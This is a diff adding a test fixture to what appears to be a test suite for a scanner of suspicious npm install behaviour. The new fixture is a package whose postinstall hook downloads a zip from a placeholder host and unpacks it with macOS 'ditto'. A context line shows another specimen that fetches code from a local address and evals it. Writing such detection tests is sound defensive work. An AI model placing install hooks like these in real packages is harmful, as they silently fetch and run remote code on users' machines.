@@ -1059,6 +1059,13 @@ ws.onmessage = event => { const message = JSON.parse(event.data); handlers[messa
       files: { 'index.js': `fetch('http://127.0.0.1:8080/x').then(r => r.text()).then(t => eval(t))` },
     },
     {
+      when: 'an install unpacks what it has downloaded, by the tool that macOS brings for it',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'node i.js' } },
+        'i.js': `const fs = require('fs'); const file = require('os').homedir() + '/.cache/specimen/tool.zip'; fetch('https://files.invalid/tool.zip').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(file, Buffer.from(b)); require('child_process').execFileSync('ditto', ['-xk', file, require('path').dirname(file)]) })`,
+      },
+    },
+    {
       when: 'a script unpacks what it has downloaded',
       files: {
         'package.json': { name: 'specimen', scripts: { postinstall: 'sh i.sh' } },
